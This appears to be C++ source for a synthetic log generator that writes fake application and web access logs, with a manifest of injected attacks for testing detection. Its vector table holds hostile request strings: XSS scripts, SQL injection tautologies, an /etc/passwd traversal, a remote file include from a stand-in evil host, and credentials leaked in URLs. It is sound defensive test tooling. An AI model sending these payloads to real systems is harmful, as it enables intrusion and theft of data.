#include "logforge/generator.hpp"

#include <algorithm>
#include <cmath>
#include <ctime>
#include <fstream>
#include <map>
#include <random>

#include "logforge/error.hpp"

namespace logforge::gen {

namespace fs = std::filesystem;
using json = nlohmann::json;

namespace {

struct Vector {
  const char* uri;  // as logged
  const char* text;  // what the attack carries, decoded
  const char* method = "GET";
  const char* referer = "-";
};

const std::map<std::string, std::vector<Vector>>& vector_table() {
  static const std::map<std::string, std::vector<Vector>> table = {
      {"xss",
       {{"/search.do?q=<script>alert('XSS')</script>", "<script>alert('XSS')</script>"},
        {"/search.do?q=<h1>alert('XSS')</h1>", "<h1>alert('XSS')</h1>"},
        {"/news.do?ref=javascript:alert(document.cookie)", "javascript:alert(document.cookie)"},
        {"/profile.do?name=%3Cb%3Ehi%3C%2Fb%3E", "<b>hi</b>"},
        {"/forum.do?msg=vbscript:msgbox(1)", "vbscript:msgbox(1)"},
        {"/page.do?embed=%3Ciframe%20src%3Dx%3E", "<iframe src=x>"},
        {"/widget.do?obj=<applet%20code=x>", "<applet code=x>"}}},
      {"session",
       {{"/home.do;jsessionid=0A1B2C3D4E5F", ";jsessionid="},
        {"/login.jsp?userId=mrossi&password=Secret01", "/login.jsp?userId=mrossi&password=Secret01"},
        {"/login.jsp?password=x1&userId=admin", "/login.jsp?password=x1&userId=admin"},
        {"/cart.do;jsessionid=FFEE1122?item=4", ";jsessionid="}}},
      {"csrf",
       {{"/trx.do?amt=100&toAcct=1234", "/trx.do?amt=100&toAcct=1234", "GET",
         "http://forum.evil-example.net/thread/42"},
        {"/account/update.do", "POST /account/update.do", "POST", "http://attacker.example.org/promo.html"}}},
      {"sqli",
       {{"/products.do?id=1')%20or%20'1'='1", "') or '1'='1"},
        {"/products.do?id=1'%20or%201<2", "1' or 1<2"},
        {"/catalog.do?cat=5'--", "5'--"},
        {"/catalog.do?cat=5%23", "5#"},
        {"/report.do?id=x'%20OR%20'a'='a", "x' OR 'a'='a"}}},
      {"file_exec",
       {{"/include.jsp?f=shell.jsp", "f=shell.jsp"},
        {"/load.do?file=../../etc/passwd", "../../etc/passwd"},
        {"/view.do?page=http://evil.example.org/cmd.txt", "http://evil.example.org/cmd.txt"},
        {"/export.do?tpl=config.xml", "config.xml"}}},
  };
  return table;
}

constexpr const char* kTargetHost = "www.example.com";

const char* const kBenignUris[] = {
    "/index.jsp", "/home.do", "/static/css/main.css", "/static/img/logo.png", "/products.do?id={n}",
    "/search.do?q=report", "/search.do?q=invoice+2018", "/orders.do?page={n}&size=20", "/api/status",
    "/login.jsp", "/logout.do", "/account/settings.do", "/static/js/app.js", "/help/faq.html",
};

const char* const kBenignReferers[] = {
    "-", "-", "-", "https://www.example.com/home.do", "https://static.example.com/index.html",
};

const char* const kAgents[] = {
    "Mozilla/5.0 (X11; Linux x86_64; rv:57.0) Gecko/20100101 Firefox/57.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/63.0 Safari/537.36",
    "curl/7.29.0",
};

const char* const kColumns[] = {
    "CODICE_FISCALE", "NPF_PARTITAIVA", "PF_NOME || '-' || PF_COGNOME", "NPF_DENOMINAZIONE", "PF_DATANASCITA",
};

const char* const kServices[] = {"Anagrafe", "Tributi", "Protocollo", "Catasto"};

class Rng {
 public:
  explicit Rng(std::uint64_t seed) : eng_(seed) {}
  std::uint64_t below(std::uint64_t n) { return n == 0 ? 0 : eng_() % n; }
  bool chance(double p) { return static_cast<double>(eng_() >> 11) * 0x1.0p-53 < p; }
  std::int64_t between(std::int64_t lo, std::int64_t hi) {
    return lo + static_cast<std::int64_t>(below(static_cast<std::uint64_t>(hi - lo + 1)));
  }

 private:
  std::mt19937_64 eng_;
};

std::tm utc(Timestamp t) {
  std::time_t secs = static_cast<std::time_t>(t / 1000000);
  std::tm tm{};
  gmtime_r(&secs, &tm);
  return tm;
}

std::string app_stamp(Timestamp t) {
  auto tm = utc(t);
  char buf[64];
  std::snprintf(buf, sizeof buf, "[%04d-%02d-%02d %02d:%02d:%02d,%06lld]", tm.tm_year + 1900, tm.tm_mon + 1,
                tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, static_cast<long long>(t % 1000000));
  return buf;
}

std::string access_stamp(Timestamp t) {
  static const char* months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                 "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
  auto tm = utc(t);
  char buf[64];
  std::snprintf(buf, sizeof buf, "[%02d/%s/%04d:%02d:%02d:%02d +0000]", tm.tm_mday, months[tm.tm_mon],
                tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
  return buf;
}

std::string fill_n(std::string s, Rng& rng) {
  auto p = s.find("{n}");
  if (p != std::string::npos) s.replace(p, 3, std::to_string(1 + rng.below(500)));
  return s;
}

// Query durations cluster on whole seconds: most take about one second,
// fewer take two, and so on.
std::int64_t query_ms(Rng& rng) {
  static const int weights[] = {47, 29, 12, 7, 5};
  int r = static_cast<int>(rng.below(100));
  int secs = 1;
  for (int w : weights) {
    if (r < w) break;
    r -= w;
    ++secs;
  }
  return std::max<std::int64_t>(1, secs * 1000 + rng.between(-450, 450));
}

class AppWriter {
 public:
  explicit AppWriter(std::string& out) : out_(out) {}

  // Writes the first line of an event and returns its physical line number.
  std::size_t first_line(const std::string& text, Timestamp t) {
    out_ += std::to_string(editor_line_++) + " " + app_stamp(t) + text + "\n";
    return ++lines_;
  }
  void continuation(const std::string& text) {
    out_ += std::to_string(editor_line_++) + " " + text + "\n";
    ++lines_;
  }

 private:
  std::string& out_;
  std::size_t editor_line_ = 124241;
  std::size_t lines_ = 0;
};

struct Session {
  std::string id;
  std::string service;
  std::string user;
  std::size_t login_line;
  std::size_t login_event;
  bool will_close;
};

void generate_app(const GenProfile& p, std::size_t n, Rng& rng, std::string& out, Manifest& m) {
  AppWriter w(out);
  Timestamp t = p.start;
  std::vector<Session> open;
  std::size_t next_session = 1;
  for (std::size_t i = 0; i < n; ++i) {
    std::int64_t pause = 0;
    if (p.pause_every > 0 && i > 0 && i % p.pause_every == 0) {
      pause = rng.between(2500000, 6000000);
      t += pause;
    } else if (!rng.chance(0.2)) {
      t += rng.between(1, 40000);
    }
    std::string prot = "PROT. SOS2018" + std::to_string(1000 + rng.below(9000));
    std::size_t line = 0;
    double r = static_cast<double>(rng.below(1000000)) / 1e6;
    if (rng.chance(p.error_rate)) {
      line = w.first_line("ERROR (Director ) " + prot + " query_id=Q" + std::to_string(1 + rng.below(20)) +
                              " failed: connection reset by peer",
                          t);
    } else if (r < 0.06 || (r < 0.12 && !open.empty())) {
      bool login = r < 0.06 || open.empty();
      if (login) {
        Session s;
        char id[32];
        std::snprintf(id, sizeof id, "S%06zu", next_session++);
        s.id = id;
        s.service = kServices[rng.below(4)];
        s.user = "u" + std::to_string(10 + rng.below(40));
        s.will_close = !rng.chance(0.1);
        s.login_event = i;
        s.login_line = w.first_line("INFO (ServiceManager ) service=" + s.service + " session=" + s.id +
                                        " user=" + s.user + " action=login",
                                    t);
        line = s.login_line;
        open.push_back(s);
      } else {
        // Close the oldest session that is meant to close; deliberately
        // incomplete ones stay open forever.
        auto it = std::find_if(open.begin(), open.end(), [](const Session& s) { return s.will_close; });
        if (it == open.end()) {
          line = w.first_line("INFO (Director ) " + prot + " done", t);
        } else {
          line = w.first_line("INFO (ServiceManager ) service=" + it->service + " session=" + it->id +
                                  " user=" + it->user + " action=logout",
                              t);
          open.erase(it);
        }
      }
    } else if (r < 0.15) {
      line = w.first_line("WARN (Scheduler ) queue_depth=" + std::to_string(50 + rng.below(200)) +
                              " above threshold",
                          t);
    } else if (r < 0.75) {
      std::int64_t ms = query_ms(rng);
      bool outlier = rng.chance(0.002);
      if (outlier) ms = rng.between(15000, 30000);
      std::string col = kColumns[rng.below(5)];
      std::string q = "Q" + std::to_string(1 + rng.below(20));
      line = w.first_line("INFO (Director ) " + prot + " query_id=" + q + " execute query: SELECT " + col +
                              " AS CODICE, count(" + col + ") AS QUANTITA in " + std::to_string(ms) +
                              " ms ms=" + std::to_string(ms),
                          t);
      if (rng.chance(0.1)) {
        w.continuation("FROM T7701_VIOLET.STG_WORK_SOS_SOGGETTO");
        w.continuation("WHERE PROTOCOLLO_SOS = ? AND NATURA_GIURIDICA = 'NFF'");
        w.continuation("GROUP BY " + col);
      }
      if (outlier) m.anomalies.push_back({"duration_outlier", "", kAppFile, line, i, std::to_string(ms)});
    } else {
      line = w.first_line("INFO (Director ) " + prot + " done", t);
    }
    if (pause > 0) m.anomalies.push_back({"pause", "", kAppFile, line, i, std::to_string(pause)});
  }
  for (const auto& s : open)
    m.anomalies.push_back({"incomplete_transaction", "", kAppFile, s.login_line, s.login_event, s.id});
}

void generate_access(const GenProfile& p, std::size_t n, std::size_t attacks, Rng& rng, std::string& out,
                     Manifest& m) {
  // Distinct attack positions, assigned to rules round-robin in line order.
  std::vector<std::size_t> slots(n);
  for (std::size_t i = 0; i < n; ++i) slots[i] = i;
  for (std::size_t i = 0; i < attacks; ++i) std::swap(slots[i], slots[i + rng.below(n - i)]);
  std::vector<std::size_t> chosen(slots.begin(), slots.begin() + static_cast<std::ptrdiff_t>(attacks));
  std::sort(chosen.begin(), chosen.end());
  std::map<std::size_t, std::size_t> attack_at;
  for (std::size_t k = 0; k < chosen.size(); ++k) attack_at[chosen[k]] = k;

  const auto& rules = attack_rules();
  Timestamp t = p.start;
  for (std::size_t i = 0; i < n; ++i) {
    t += rng.between(0, 60000);
    std::string ip = "10.1." + std::to_string(rng.below(8)) + "." + std::to_string(1 + rng.below(250));
    std::string user = rng.chance(0.5) ? "-" : "u" + std::to_string(10 + rng.below(40));
    std::string agent = kAgents[rng.below(3)];
    std::string method = "GET", uri, referer;
    int status = 200;
    auto hit = attack_at.find(i);
    if (hit != attack_at.end()) {
      std::size_t k = hit->second;
      const std::string& rule = rules[k % rules.size()];
      const auto& vs = vector_table().at(rule);
      const Vector& v = vs[(k / rules.size()) % vs.size()];
      uri = v.uri;
      method = v.method;
      referer = v.referer;
      status = rng.chance(0.5) ? 200 : 403;
      m.attacks.push_back({"attack", rule, kAccessFile, i + 1, i, v.text});
    } else {
      uri = fill_n(kBenignUris[rng.below(std::size(kBenignUris))], rng);
      referer = kBenignReferers[rng.below(std::size(kBenignReferers))];
      if (uri.starts_with("/orders.do") && rng.chance(0.3)) {
        method = "POST";
        referer = "https://www.example.com/orders.do";
      }
      if (rng.chance(0.03)) status = 404;
      else if (uri == "/logout.do") status = 302;
    }
    out += std::string(kTargetHost) + " " + ip + " - " + user + " " + access_stamp(t) + " \"" + method + " " +
           uri + " HTTP/1.1\" " + std::to_string(status) + " " + std::to_string(200 + rng.below(20000)) +
           " \"" + referer + "\" \"" + agent + "\"\n";
  }
}

json item_json(const ManifestItem& a) {
  json j = {{"type", a.type}, {"file", a.file}, {"line", a.line}, {"event", a.event}, {"detail", a.detail}};
  if (!a.rule.empty()) j["rule"] = a.rule;
  return j;
}

ManifestItem item_from(const json& j) {
  return ManifestItem{j.at("type").get<std::string>(), j.value("rule", ""), j.at("file").get<std::string>(),
                      j.at("line").get<std::size_t>(), j.at("event").get<std::size_t>(),
                      j.value("detail", "")};
}

}  // namespace

const std::vector<std::string>& attack_rules() {
  static const std::vector<std::string> rules = {"xss", "session", "csrf", "sqli", "file_exec"};
  return rules;
}

const std::vector<std::string>& attack_vectors(const std::string& rule) {
  static const auto texts = [] {
    std::map<std::string, std::vector<std::string>> out;
    for (const auto& [r, vs] : vector_table())
      for (const auto& v : vs) out[r].push_back(v.text);
    return out;
  }();
  auto it = texts.find(rule);
  if (it == texts.end()) throw ConfigError("unknown attack rule '" + rule + "'");
  return it->second;
}

std::string referer_lookup_csv() {
  return "domain,ip\n"
         "www.example.com,10.0.0.10\n"
         "static.example.com,10.0.0.10\n"
         "forum.evil-example.net,203.0.113.66\n"
         "attacker.example.org,198.51.100.7\n";
}

json Manifest::to_json() const {
  json attacks_j = json::array(), anomalies_j = json::array();
  for (const auto& a : attacks) attacks_j.push_back(item_json(a));
  for (const auto& a : anomalies) anomalies_j.push_back(item_json(a));
  return {{"seed", profile.seed},
          {"events", profile.events},
          {"attack_rate", profile.attack_rate},
          {"error_rate", profile.error_rate},
          {"files", {{"applog", kAppFile}, {"accesslog", kAccessFile}}},
          {"counts", {{"applog", app_events}, {"accesslog", access_events}}},
          {"attacks", attacks_j},
          {"anomalies", anomalies_j}};
}

Manifest Manifest::from_json(const json& j) {
  Manifest m;
  m.profile.seed = j.at("seed").get<std::uint64_t>();
  m.profile.events = j.at("events").get<std::size_t>();
  m.profile.attack_rate = j.at("attack_rate").get<double>();
  m.profile.error_rate = j.value("error_rate", 0.01);
  m.app_events = j.at("counts").at("applog").get<std::size_t>();
  m.access_events = j.at("counts").at("accesslog").get<std::size_t>();
  for (const auto& a : j.at("attacks")) m.attacks.push_back(item_from(a));
  for (const auto& a : j.at("anomalies")) m.anomalies.push_back(item_from(a));
  return m;
}

Corpus generate(const GenProfile& p) {
  if (!(p.attack_rate >= 0.0 && p.attack_rate <= 1.0)) throw ConfigError("attack rate must be in [0, 1]");
  if (!(p.access_share >= 0.0 && p.access_share <= 1.0)) throw ConfigError("access share must be in [0, 1]");
  Corpus c;
  c.manifest.profile = p;
  std::size_t access = static_cast<std::size_t>(std::llround(static_cast<double>(p.events) * p.access_share));
  std::size_t app = p.events - access;
  std::size_t attacks = static_cast<std::size_t>(std::llround(static_cast<double>(p.events) * p.attack_rate));
  attacks = std::min(attacks, access);
  c.manifest.app_events = app;
  c.manifest.access_events = access;
  // Independent streams so the access log does not shift when app settings change.
  Rng app_rng(p.seed * 2 + 1), access_rng(p.seed * 2 + 2);
  generate_app(p, app, app_rng, c.app_log, c.manifest);
  generate_access(p, access, attacks, access_rng, c.access_log, c.manifest);
  return c;
}

Manifest generate_corpus(const GenProfile& p, const fs::path& dir) {
  Corpus c = generate(p);
  fs::create_directories(dir);
  auto write = [&](const char* name, const std::string& text) {
    std::ofstream out(dir / name, std::ios::binary | std::ios::trunc);
    out << text;
    if (!out) throw Error("cannot write " + (dir / name).string());
  };
  write(kAppFile, c.app_log);
  write(kAccessFile, c.access_log);
  write(kManifestFile, c.manifest.to_json().dump(2) + "\n");
  write(kLookupFile, referer_lookup_csv());
  return c.manifest;
}

}  // namespace logforge::gen
